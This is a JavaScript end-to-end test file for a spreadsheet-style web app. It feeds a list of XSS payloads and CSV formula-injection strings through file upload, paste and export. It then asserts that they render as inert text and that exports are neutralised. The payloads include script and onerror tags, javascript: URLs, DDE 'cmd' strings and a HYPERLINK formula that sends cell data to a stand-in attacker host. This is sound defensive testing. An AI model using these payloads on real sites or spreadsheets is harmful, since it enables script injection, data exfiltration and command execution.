// End-to-end: HTML and script in the data render as text. A list whose customer names, notes,
// a header and a title row are XSS payloads is loaded through the file input and through the
// paste dialog; every payload must show as its literal text, no element, script or handler
// may be created from it, no dialog may open, nothing may be requested, no console error. The
// exports must neutralise text that a spreadsheet would run (=, +, -, @, tab, CR): in CSV with
// a leading ', in XLSX as string cells (no formula element at all).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import { startPage } from './harness.mjs';

const require = createRequire(import.meta.url);
const kam = require('../../pkg/node/kam_score.js');
let origin;
let stopPage;

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)>',
  '<svg><script>alert(4)</script></svg>',
  '"><script>alert(5)</script>',
  "'><img src=x onerror=alert(6)>",
  '<iframe src="javascript:alert(7)"></iframe>',
  '<a href="javascript:alert(8)">click</a>',
  '<body onload=alert(9)>',
  '<details open ontoggle=alert(10)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>',
  '<object data="javascript:alert(12)">',
  '<embed src="javascript:alert(13)">',
  '<input autofocus onfocus=alert(14)>',
  '<video><source onerror=alert(15)>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href=http://evil.example/y.css>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">',
  '{{constructor.constructor(\'alert(20)\')()}}',
  '${alert(21)}',
  '&lt;script&gt;alert(22)&lt;/script&gt;',
  '<template><img src=x onerror=alert(23)></template>',
  'javascript:alert(24)',
  '<form action=javascript:alert(25)><button>x</button></form>',
  '<!--<img src="--><img src=x onerror=alert(26)//">',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

const csvQuote = (v) => `"${v.replace(/"/g, '""')}"`;
const HEADER_PAYLOAD = '<img src=x onerror=alert("header")>';
const TITLE_PAYLOAD = '<svg onload=alert("title")>';
const rows = PAYLOADS.map((p, i) => [p, String((i + 1) * 10), `备注 ${p}`, p]);
const csv = [
  csvQuote(TITLE_PAYLOAD),
  ['客户名称', '年采购额(万元)', '备注', HEADER_PAYLOAD].map(csvQuote).join(','),
  ...rows.map((r) => r.map(csvQuote).join(',')),
].join('\r\n');
const csvBytes = Buffer.from(`\ufeff${csv}\r\n`, 'utf8');

let browser;

before(async () => {
  ({ origin, browser, stop: stopPage } = await startPage());
});

after(async () => {
  await stopPage?.();
});

/** What could only come from a payload: tag counts, handler attributes, javascript: URLs. */
function domFacts() {
  const tags = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'video', 'source', 'math', 'details', 'style', 'link', 'meta', 'base', 'form', 'template', 'a'];
  const counts = Object.fromEntries(tags.map((t) => [t, document.getElementsByTagName(t).length]));
  const handlers = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      if (a.name.startsWith('on') || /^\s*javascript:/i.test(a.value) && ['href', 'src', 'action', 'data'].includes(a.name)) handlers.push(`${el.tagName}[${a.name}]`);
    }
  }
  return { counts, handlers, xss: window.__xss ?? null };
}

async function openPage() {
  const context = await browser.newContext({ locale: 'en-US', viewport: { width: 1400, height: 4000 }, acceptDownloads: true });
  const page = await context.newPage();
  const problems = [];
  page.on('dialog', async (d) => { problems.push(`dialog: ${d.message()}`); await d.dismiss(); });
  page.on('console', (msg) => { if (msg.type() === 'error') problems.push(`console: ${msg.text()}`); });
  page.on('pageerror', (err) => problems.push(`pageerror: ${err}`));
  const requests = [];
  page.on('request', (req) => requests.push(req.url()));
  await page.goto(`${origin}/index.html`);
  await page.waitForSelector('body[data-ready="true"]');
  const before = await page.evaluate(domFacts);
  const settled = requests.length;
  const check = async () => {
    // Let any would-be handler or load fire.
    await page.waitForTimeout(300);
    const now = await page.evaluate(domFacts);
    assert.deepEqual(now.counts, before.counts, 'no element was created from the data');
    assert.deepEqual(now.handlers, [], 'no inline handler or javascript: URL in the DOM');
    assert.equal(now.xss, null);
    assert.deepEqual(problems, [], 'no dialog, no console error');
    const late = requests.slice(settled).filter((u) => !u.startsWith('blob:') && !u.startsWith('data:'));
    assert.deepEqual(late.filter((u) => !u.startsWith(`${origin}/`) || /\/x$|evil|javascript/.test(u)), [], 'nothing was requested for the data');
  };
  return { page, context, check };
}

/** `norm`: what the input path does to the text (a textarea turns CR and CRLF into LF). */
async function assertRendersAsText(page, norm = (v) => v) {
  assert.match(await page.textContent('#shown'), new RegExp(`${PAYLOADS.length} / ${PAYLOADS.length}`));
  // The whole grid is in view (a tall window): each payload is the literal text of its cell.
  for (let i = 0; i < PAYLOADS.length; i++) {
    const name = page.locator(`#grid tbody tr[data-row="${i}"] td[data-j="0"]`);
    await name.waitFor();
    const want = norm(PAYLOADS[i]);
    assert.equal(await name.textContent(), want, `name of row ${i}`);
    assert.equal(await name.getAttribute('title'), want);
    assert.equal(await page.locator(`#grid tbody tr[data-row="${i}"] td[data-j="2"]`).textContent(), `备注 ${want}`);
    assert.equal(await page.locator(`#grid tbody tr[data-row="${i}"] td[data-j="3"]`).textContent(), want);
  }
  assert.ok((await page.textContent('#grid thead')).includes(HEADER_PAYLOAD), 'the header payload is text');
  assert.ok((await page.textContent('#title-rows')).includes(TITLE_PAYLOAD), 'the title payload is text');
  assert.ok((await page.textContent('#mapping')).includes(HEADER_PAYLOAD), 'the mapping panel shows the header as text');
  // The row panel names the account with its payload, as text.
  await page.click('#grid tbody tr[data-row="1"] td[data-key="score"]');
  await page.waitForFunction((p) => document.querySelector('#detail h2')?.textContent === p, PAYLOADS[1]);
}

/** The entries of a zip, inflated. */
function unzip(buf) {
  const eocd = buf.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = buf.readUInt16LE(eocd + 10);
  let p = buf.readUInt32LE(eocd + 16);
  const files = {};
  for (let k = 0; k < count; k++) {
    const method = buf.readUInt16LE(p + 10);
    const size = buf.readUInt32LE(p + 20);
    const nameLen = buf.readUInt16LE(p + 28);
    const extra = buf.readUInt16LE(p + 30);
    const comment = buf.readUInt16LE(p + 32);
    const local = buf.readUInt32LE(p + 42);
    const name = buf.subarray(p + 46, p + 46 + nameLen).toString();
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const data = buf.subarray(start, start + size);
    files[name] = (method === 8 ? inflateRawSync(data) : data).toString('utf8');
    p += 46 + nameLen + extra + comment;
  }
  return files;
}

const FORMULA_START = /^[=+\-@\t\r]/;

async function checkExports(page) {
  const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
  const back = kam.Sheet.fromBytes(readFileSync(await csvDownload.path()));
  assert.equal(back.rowCount, PAYLOADS.length);
  let guarded = 0;
  for (let i = 0; i < PAYLOADS.length; i++) {
    const p = PAYLOADS[i];
    const want = FORMULA_START.test(p) ? `'${p}` : p;
    if (want !== p) guarded++;
    assert.equal(back.cells(i)[0], want, `CSV name of row ${i}`);
    assert.equal(back.cells(i)[3], want, `CSV column D of row ${i}`);
    assert.equal(back.cells(i)[2], `备注 ${p}`);
  }
  assert.equal(guarded, 6, 'the six formula-like payloads are guarded');

  const [xlsxDownload] = await Promise.all([page.waitForEvent('download'), page.click('#export-xlsx')]);
  const bytes = readFileSync(await xlsxDownload.path());
  const parts = unzip(bytes);
  const sheetXml = parts['xl/worksheets/sheet1.xml'];
  assert.ok(sheetXml, Object.keys(parts).join());
  assert.doesNotMatch(sheetXml, /<f[ >]/, 'no formula in the workbook');
  const xback = kam.Sheet.fromBytes(bytes);
  for (let i = 0; i < PAYLOADS.length; i++) {
    assert.equal(xback.cells(i)[0], PAYLOADS[i], `XLSX keeps row ${i} exactly, as a string cell`);
  }
  const strings = parts['xl/sharedStrings.xml'] ?? '';
  assert.ok(strings.includes('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1') || strings.includes('=HYPERLINK("http://evil.example/?"&amp;A1'), 'the formula text is a shared string');
}

test('payloads in a loaded file render as text, and the exports neutralise formulas', async () => {
  const { page, context, check } = await openPage();
  await page.setInputFiles('#file', { name: 'xss.csv', mimeType: 'text/csv', buffer: csvBytes });
  await page.waitForFunction(() => document.body.dataset.loaded === '1');
  await assertRendersAsText(page);
  // Search with a payload: still text.
  await page.fill('#search', '<img src=x onerror=alert(2)>');
  await page.waitForFunction(() => /^Shown 1 /.test(document.getElementById('shown').textContent));
  await page.fill('#search', '');
  await page.waitForFunction((n) => document.getElementById('shown').textContent.includes(`${n} / ${n}`), PAYLOADS.length);
  await checkExports(page);
  await check();
  await context.close();
});

test('payloads pasted as text render as text', async () => {
  const { page, context, check } = await openPage();
  await page.click('#paste');
  await page.fill('#paste-text', csv);
  await page.click('#paste-load');
  await page.waitForFunction(() => document.body.dataset.loaded === '1');
  await assertRendersAsText(page, (v) => v.replace(/\r\n?/g, '\n'));
  // Edit a cell to a payload: it shows as text too.
  const td = page.locator('#grid tbody tr[data-row="0"] td[data-j="2"]');
  await td.dblclick();
  await page.fill('#grid input.edit', '<img src=x onerror=alert("edit")>');
  await page.press('#grid input.edit', 'Enter');
  await page.waitForFunction(() => document.querySelector('#grid tr[data-row="0"] td[data-j="2"]')?.textContent === '<img src=x onerror=alert("edit")>');
  await check();
  await context.close();
});
